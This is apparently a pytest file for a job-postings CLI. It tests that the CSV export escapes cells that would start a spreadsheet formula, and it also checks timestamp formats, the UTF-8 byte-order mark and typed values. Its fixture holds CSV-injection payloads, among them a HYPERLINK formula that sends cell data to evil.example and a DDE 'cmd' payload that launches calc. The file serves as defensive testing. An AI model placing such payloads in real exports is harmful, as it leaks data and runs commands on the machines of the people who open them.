"""``--format csv`` is for spreadsheets, and a posting's text is anyone's: text that would start a formula where a
spreadsheet opens the file is shown as text there (OWASP, "CSV Injection"). A small store of its own, read by the
real command."""
from __future__ import annotations

import csv
import io
import os
import json
from pathlib import Path

import pytest

from tests.helpers import small_store, vagigs

HOSTILE = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"Apply now")',
    "company": "@SUM(1+1)*cmd|' /C calc'!A0",
    "description": "+998 90 123 45 67 — call us. Remote data entry.",
    "location": "-2+3",
    "salary_raw": "\t=1+1",
}


@pytest.fixture
def env(tmp_path: Path) -> dict[str, str]:
    url, _ = small_store(tmp_path / "v.db",
                         dict(source="telegram", source_id="hostile", **HOSTILE),
                         dict(source="telegram", source_id="plain", title="Virtual assistant (remote)",
                              company="Acme", description="- answer e-mail\n- keep the calendar"))
    return {"VAGIGS_DATABASE_URL": url, "VAGIGS_HOME": str(tmp_path / "home")}


def _rows(env: dict[str, str]) -> dict[str, dict[str, str]]:
    out = vagigs("feed", "--all", "--format", "csv", env=env).stdout
    return {r["source_id"]: r for r in csv.DictReader(io.StringIO(out))}


def test_text_that_would_start_a_formula_is_shown_as_text(env: dict[str, str]) -> None:
    hostile = _rows(env)["hostile"]
    for field in ("title", "company", "description", "location"):
        assert hostile[field].startswith("'"), field
        assert hostile[field][1:] == HOSTILE[field], field  # nothing else changed
    assert hostile["salary_raw"].startswith("'")


def test_other_cells_are_as_stored_and_json_is_exact(env: dict[str, str]) -> None:
    rows = _rows(env)
    plain = rows["plain"]
    assert plain["title"] == "Virtual assistant (remote)" and plain["company"] == "Acme"
    assert plain["description"] == "'- answer e-mail\n- keep the calendar"  # a list's first dash, too
    assert json.loads(plain["tags"]) == json.loads(rows["hostile"]["tags"])  # JSON cells stay JSON
    exact = {p["source_id"]: p for p in json.loads(vagigs("feed", "--all", "--format", "json", env=env).stdout)}
    assert exact["hostile"]["title"] == HOSTILE["title"]


def test_every_time_column_has_one_format_a_reader_parses_at_once(env: dict[str, str]) -> None:
    """Times are to the whole second, as the sources' dates are: the store's own stamps (first and last seen, fetched)
    kept microseconds, which ``isoformat`` leaves out when they are 0, and a column of two formats is one pandas's
    ``to_datetime`` refuses."""
    from datetime import datetime

    rows = list(csv.DictReader(io.StringIO(vagigs("feed", "--all", "--format", "csv", env=env).stdout)))
    stamps = [(column, row[column]) for column in ("first_seen_at", "last_seen_at", "fetched_at") for row in rows
              if row[column]]
    assert len(stamps) >= 4
    for column, value in stamps:
        assert datetime.strptime(value, "%Y-%m-%dT%H:%M:%S%z"), (column, value)
    runs = json.loads(vagigs("runs", "--format", "json", env=env).stdout)
    for run in runs:
        assert run["started_at"] is None or datetime.strptime(run["started_at"], "%Y-%m-%dT%H:%M:%S%z")


def test_a_csv_starts_with_the_byte_order_mark_excel_reads_as_utf8(env: dict[str, str]) -> None:
    """Excel opens a CSV without a byte-order mark in the system's code page: Persian, Cyrillic and the Uzbek ʻ ʼ
    came out as mojibake. The mark is the first thing of every CSV, a report's too; the utf-8-sig codec (as pandas'
    ``read_csv`` reads UTF-8) gives the plain header; ``--no-bom`` leaves it out, for pipelines."""
    import subprocess
    import sys

    from tests.helpers import ROOT

    def raw(*args: str) -> bytes:
        return subprocess.run([sys.executable, "-m", "cli", *args], cwd=ROOT, env={**os.environ, **env},
                              capture_output=True, check=True).stdout

    for args in (("feed", "--all", "--format", "csv"), ("report", "scams", "--by", "week", "--format", "csv"),
                 ("report", "reach", "--format", "csv")):
        out = raw(*args)
        assert out.startswith(b"\xef\xbb\xbf") and out.count(b"\xef\xbb\xbf") == 1, args
        header = next(csv.reader(io.StringIO(out.decode("utf-8-sig"))))
        assert header[0] in ("id", "week"), args
        assert raw(*args, "--no-bom") == out[3:], args
    assert not raw("feed", "--all", "--format", "json").startswith(b"\xef\xbb\xbf")


def test_typed_values_are_written_as_docs_schema_says(tmp_path: Path) -> None:
    """docs/schema.md, "CSV": booleans and lists as JSON text (``false``, ``[]``), an empty value as an empty cell;
    a report's values as they are, its rate rounded to 4 decimals."""
    from click.testing import CliRunner

    from cli import main

    url, _ = small_store(tmp_path / "t.db", dict(source="telegram", source_id="typed", remote=False, tags=[],
                                                  languages_other=["ru"], company=None))
    env = {"VAGIGS_DATABASE_URL": url}
    out = CliRunner().invoke(main, ["feed", "--all", "--format", "csv"], env=env, catch_exceptions=False).stdout
    row = next(csv.DictReader(io.StringIO(out.removeprefix("\ufeff"))))
    assert (row["remote"], row["va_relevant"], row["tags"], row["languages_other"]) == ("false", "true", "[]", '["ru"]')
    assert row["company"] == row["expires_at"] == ""
    report = CliRunner().invoke(main, ["report", "scams", "--format", "csv"], env=env, catch_exceptions=False).stdout
    assert report.removeprefix("\ufeff").splitlines() == ["source,postings,likely_scam,caution,scam_rate",
                                                          "telegram,1,0,0,0.0"]
